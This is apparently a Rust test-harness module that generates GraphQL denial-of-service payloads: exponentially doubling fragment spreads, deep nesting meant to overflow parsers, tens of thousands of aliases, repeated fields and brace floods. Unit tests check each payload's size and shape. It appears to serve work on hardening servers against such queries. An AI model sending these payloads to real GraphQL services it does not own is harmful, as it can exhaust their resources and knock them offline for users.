//! The attack documents, as text: pure generators, so their shape and size are unit-tested and
//! the same document is sent on every run.

/// Issue 19, attack 1: `{ me { ...F<n> } }` where `F0` selects `name` and each `Fi` spreads
/// `F(i-1)` twice. About 40 bytes per level, 2^n fields once expanded.
pub fn fragment_spreads(n: usize) -> String {
    let mut doc = format!("{{ me {{ ...F{n} }} }}\nfragment F0 on User {{ name }}\n");
    for i in 1..=n {
        let prev = i - 1;
        doc.push_str(&format!(
            "fragment F{i} on User {{ ...F{prev} ...F{prev} }}\n"
        ));
    }
    doc
}

/// Issue 19, attack 2: `n` opening braces then `n` closing ones: a document with no field at
/// all, one syntax error per brace for a parser that recovers without bound.
pub fn braces(n: usize) -> String {
    let mut doc = "{".repeat(n);
    doc.push_str(&"}".repeat(n));
    doc
}

/// Issue 19, attack 3: `{ a0: me { name } a1: me { name } ... }`, `n` aliases of one root
/// field. `prefix` makes two such documents differ, so in-flight sharing of identical queries
/// cannot answer both with one execution.
pub fn aliases(n: usize, prefix: &str, field: &str, leaf: &str) -> String {
    let mut doc = String::with_capacity(n * (field.len() + leaf.len() + 16));
    doc.push('{');
    for i in 0..n {
        doc.push_str(&format!(" {prefix}{i}: {field} {{ {leaf} }}"));
    }
    doc.push_str(" }");
    doc
}

/// Issue 19, attack 10: `users` then `reviews` and `author` in turn down to field depth `depth`
/// (the root field is depth 1), ending in a leaf. Over the demo data every level multiplies the
/// answer by a user's reviews.
pub fn users_reviews_depth(depth: usize) -> String {
    let depth = depth.max(2);
    let mut doc = String::from("{ users {");
    // Depth 1 is `users` (a User); even depths are `reviews`, odd ones `author`.
    for level in 2..depth {
        doc.push_str(if level.is_multiple_of(2) {
            " reviews {"
        } else {
            " author {"
        });
    }
    // The field at `depth` is a leaf of the type the field at `depth - 1` returns.
    doc.push_str(if depth.is_multiple_of(2) {
        " name"
    } else {
        " body"
    });
    doc.push_str(&" }".repeat(depth - 1));
    doc.push_str(" }");
    doc
}

/// Selection sets nested `n` deep (`{ me { me { ... } } }`, invalid past the first level):
/// what a parser without a recursion limit overflows its stack on.
pub fn nesting(n: usize) -> String {
    let mut doc = "{ me".repeat(n);
    doc.push_str(" { name }");
    doc.push_str(&" }".repeat(n));
    doc
}

/// The same field selected `n` times (`{ me { name name ... } }`): what a quadratic
/// "fields can merge" validation or a planner that does not merge them spends n² on.
pub fn repeated_fields(n: usize) -> String {
    let mut doc = String::from("{ me {");
    doc.push_str(&" name".repeat(n));
    doc.push_str(" } }");
    doc
}

/// The body of a GraphQL POST for `query`.
pub fn post_body(query: &str) -> String {
    serde_json::json!({ "query": query }).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use apollo_compiler::parser::Parser;

    /// Parses `doc` as GraphQL (syntax only).
    fn parses(doc: &str) -> bool {
        Parser::new().parse_ast(doc, "attack.graphql").is_ok()
    }

    #[test]
    fn fragment_spreads_doubles_at_each_level() {
        let doc = fragment_spreads(30);
        assert!(parses(&doc));
        assert!(doc.starts_with("{ me { ...F30 } }"));
        assert!(doc.contains("fragment F0 on User { name }"));
        assert!(doc.contains("fragment F30 on User { ...F29 ...F29 }"));
        assert_eq!(doc.matches("fragment ").count(), 31);
        // The 1.2 KB.
        assert!((1100..1400).contains(&doc.len()), "{}", doc.len());
    }

    #[test]
    fn braces_are_balanced_and_sized() {
        let doc = braces(5000);
        assert_eq!(doc.len(), 10_000);
        assert!(doc.starts_with("{{") && doc.ends_with("}}"));
        assert_eq!(doc.matches('{').count(), 5000);
        assert!(!parses(&doc), "no field: not a valid document");
    }

    #[test]
    fn aliases_are_distinct_and_parse() {
        let doc = aliases(10_000, "a", "me", "name");
        assert!(parses(&doc));
        assert!(doc.starts_with("{ a0: me { name } a1: me"));
        assert!(doc.contains(" a9999: me { name } }"));
        assert!(!doc.contains("a10000:"));
        assert_eq!(doc.matches(": me").count(), 10_000);
        assert_ne!(doc, aliases(10_000, "b", "me", "name"));
    }

    #[test]
    fn users_reviews_depth_nests_to_exactly_the_depth() {
        let doc = users_reviews_depth(20);
        assert!(parses(&doc));
        assert_eq!(
            doc.matches('{').count(),
            20,
            "the operation's set and 19 fields"
        );
        assert_eq!(doc.matches('{').count(), doc.matches('}').count());
        assert_eq!(doc.matches("reviews").count(), 9);
        assert_eq!(doc.matches("author").count(), 9);
        assert!(doc.ends_with(&format!("author {{ name{}", " }".repeat(20))));
        assert_eq!(
            users_reviews_depth(4),
            "{ users { reviews { author { name } } } }"
        );
        assert_eq!(users_reviews_depth(3), "{ users { reviews { body } } }");
    }

    #[test]
    fn nesting_and_repeated_fields_are_balanced() {
        let doc = nesting(5000);
        assert_eq!(doc.matches('{').count(), 5001);
        assert_eq!(doc.matches('{').count(), doc.matches('}').count());
        assert!(parses(&nesting(50)));
        let doc = repeated_fields(100_000);
        assert_eq!(doc.matches(" name").count(), 100_000);
        assert!(parses(&doc));
    }

    #[test]
    fn post_body_escapes_the_query() {
        let body = post_body("{ a(x: \"q\") }");
        let value: serde_json::Value = serde_json::from_str(&body).unwrap();
        assert_eq!(value["query"], "{ a(x: \"q\") }");
    }
}
